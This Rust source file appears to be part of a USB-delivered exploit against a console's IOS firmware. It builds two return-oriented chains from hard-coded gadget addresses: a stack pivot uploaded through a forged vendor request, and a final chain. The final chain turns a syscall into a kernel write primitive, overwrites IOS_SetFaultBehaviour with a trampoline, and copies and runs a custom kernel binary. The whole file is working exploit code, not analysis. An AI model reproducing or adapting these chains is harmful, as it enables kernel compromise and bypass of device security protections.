//! Return-oriented chains executed by the victim's background thread.
//!
//! Two chains are involved:
//! 1. The stack pivot, written onto the background thread stack by the
//!    forged control transfer (vendor request [`USB_REQ_CUSTOM`]). It copies
//!    the final chain into a quiet part of the stack and pivots there.
//! 2. The final chain, carried inside the last configuration descriptor at
//!    [`FINAL_ROP_OFFSET`] of the EP0 DMA buffer. It turns the panic
//!    behaviour syscall into a kernel write primitive, patches
//!    `IOS_SetFaultBehaviour` into a trampoline, copies the kernel binary
//!    into place and calls it.
//!
//! Thumb gadgets carry the low bit set.

/// Vendor request that uploads the stack pivot chain.
pub const USB_REQ_CUSTOM: u8 = 0x30;

/// Location of the device's EP0 DMA buffer in victim memory.
pub const EP0_DMA_BUF: u32 = 0x1029_d8e0;

pub const FINAL_ROP_OFFSET: usize = 0x100;
pub const ARM_KERNEL_OFFSET: usize = 0x500;
pub const CUSTOM_EVENT_OFFSET: usize = 0x2000;

pub const FINAL_ROP_LOCATION: u32 = EP0_DMA_BUF + FINAL_ROP_OFFSET as u32;
pub const ARM_KERNEL_LOCATION: u32 = EP0_DMA_BUF + ARM_KERNEL_OFFSET as u32;
pub const CUSTOM_EVENT_LOCATION: u32 = EP0_DMA_BUF + CUSTOM_EVENT_OFFSET as u32;

/// Start of `IOS_SetFaultBehaviour`, the syscall patched into a trampoline.
pub const REPLACE_SYSCALL: u32 = 0x0812_98bc;
/// Where the kernel binary runs from.
pub const ARM_CODE_BASE: u32 = 0x0813_5000;

/// Number of words in the final chain.
pub const FINAL_ROP_WORDS: usize = 7 + CREATE_THREAD_WORDS + 13 * KERN_WRITE32_WORDS + 7 + 17;
/// Number of words in the stack pivot chain.
pub const STACKPIVOT_ROP_WORDS: usize = 9 + 7 + CREATE_THREAD_WORDS + 14;

const CREATE_THREAD_WORDS: usize = 11;
const KERN_WRITE32_WORDS: usize = 13;

const POP_R0_R1_R4_PC: u32 = 0x1012_3a9e | 1;
const POP_R1_R2_R5_PC: u32 = 0x1010_63da | 1;
const POP_R1_R3_R4_R6_PC: u32 = 0x1012_3982 | 1;
const POP_R4_R5_PC: u32 = 0x1010_1638;
const MOV_LR_R0: u32 = 0x1012_cfec;

/// Trampoline written over [`REPLACE_SYSCALL`]: opens all domains, calls
/// r3, cleans the data cache and jumps to the returned code.
const TRAMPOLINE: [u32; 13] = [
    0xe92d_4010, // push { r4, lr }
    0xe1a0_4000, // mov r4, r0
    0xe3e0_0000, // mov r0, #0xffffffff
    0xee03_0f10, // mcr p15, #0, r0, c3, c0, #0
    0xe1a0_0004, // mov r0, r4
    0xe12f_ff33, // blx r3
    0x0000_0000, // nop
    0xee17_ff7a, // mrc p15, 0, r15, c7, c10, 3
    0x1aff_fffd, // bne clean_loop
    0xee07_0f9a, // mcr p15, 0, r0, c7, c10, 4
    0xe1a0_3004, // mov r3, r4
    0xe8bd_4010, // pop { r4, lr }
    0xe12f_ff13, // bx r3
];

/// `IOS_CreateThread` memsets the new stack with kernel permissions, which
/// nops out `stack_size` bytes below `stack_top`.
fn create_thread(
    arg: u32,
    stack_top: u32,
    stack_size: u32,
    priority: u32,
    flags: u32,
) -> [u32; CREATE_THREAD_WORDS] {
    [
        0x1012_36f2 | 1, // pop {r1, r2, r3, r4, r5, r6, r7, pc}
        arg,
        stack_top,
        stack_size,
        0,
        0,
        0,
        0,
        0x1012_eabc, // IOS_CreateThread
        priority,
        flags,
    ]
}

/// With 08129734-0812974c nopped out, `IOS_SetPanicBehaviour` writes an
/// arbitrary word.
fn kern_write32(address: u32, value: u32) -> [u32; KERN_WRITE32_WORDS] {
    [
        POP_R0_R1_R4_PC,
        address,
        value,
        0,
        0x1012_3a8a | 1, // pop {r3, r4, pc}
        1,               // r3 must be 1 for the write
        0,
        0x1010_cd18, // mov r12, r0; mov r0, r12; add sp, sp, #0x8; pop { pc }
        0,
        0,
        0x1012_ee64, // IOS_SetPanicBehaviour
        0,
        0,
    ]
}

/// The final chain. `arm_kernel_size` is the number of bytes copied from
/// [`ARM_KERNEL_LOCATION`] to [`ARM_CODE_BASE`].
pub fn final_rop(arm_kernel_size: u32) -> Vec<u32> {
    let mut rop = Vec::with_capacity(FINAL_ROP_WORDS);

    // lr = pop {r4, r5, pc}
    rop.extend_from_slice(&[POP_R0_R1_R4_PC, POP_R4_R5_PC, 0, 0, MOV_LR_R0, 0, 0]);

    rop.extend_from_slice(&create_thread(0, 0x0812_974c, 0x68, 1, 2));

    for (i, instruction) in TRAMPOLINE.iter().enumerate() {
        rop.extend_from_slice(&kern_write32(REPLACE_SYSCALL + i as u32 * 4, *instruction));
    }

    // flush the whole data cache
    rop.extend_from_slice(&[
        POP_R0_R1_R4_PC,
        REPLACE_SYSCALL,
        0x4001,
        0,
        0x1012_ed4c, // IOS_FlushDCache
        0,
        0,
    ]);

    // kern_memcpy(ARM_CODE_BASE, ARM_KERNEL_LOCATION, size) through the trampoline
    rop.extend_from_slice(&[
        POP_R0_R1_R4_PC,
        ARM_CODE_BASE,
        0,
        0,
        POP_R1_R2_R5_PC,
        0,
        arm_kernel_size,
        0,
        POP_R1_R3_R4_R6_PC,
        ARM_KERNEL_LOCATION,
        0x0813_1d04, // kern_memcpy
        0,
        0,
        0x1012_ebb4, // IOS_SetFaultBehaviour
        0,
        0,
        0x1013_12d0, // user-mode trigger
    ]);

    rop
}

/// The stack pivot chain uploaded through [`USB_REQ_CUSTOM`].
pub fn stackpivot_rop() -> [u32; STACKPIVOT_ROP_WORDS] {
    let mut rop = [0; STACKPIVOT_ROP_WORDS];
    let thread = create_thread(0, 0x1010_01dc, 0x68, 1, 2);

    let head = [
        // memcpy(0x1015bfa8, FINAL_ROP_LOCATION, sizeof(final_rop))
        POP_R0_R1_R4_PC,
        0x1015_bfa8,
        0,
        0,
        POP_R1_R2_R5_PC,
        FINAL_ROP_LOCATION,
        (FINAL_ROP_WORDS * 4) as u32,
        0,
        0x1010_6d4c, // bl memcpy; mov r0, #0x0; pop {r4, r5, pc}
        // lr = pop {r4, r5, pc}
        POP_R4_R5_PC,
        0,
        0x1010_3bd4, // mov r0, r4; pop {r4, pc}
        0,
        MOV_LR_R0,
        0,
        0,
    ];
    let tail = [
        POP_R1_R2_R5_PC,
        0,
        (-0xf000i32) as u32, // pivots the stack to 0x1015bfa8
        0,
        0x1010_0280, // pop {r4-r11, pc}
        0,
        0,
        0,
        0,
        0,
        0,
        0,
        4,           // r11 must match the pid check
        0x1012_ea68, // stack pivot
    ];

    rop[..head.len()].copy_from_slice(&head);
    rop[head.len()..head.len() + thread.len()].copy_from_slice(&thread);
    rop[head.len() + thread.len()..].copy_from_slice(&tail);
    rop
}
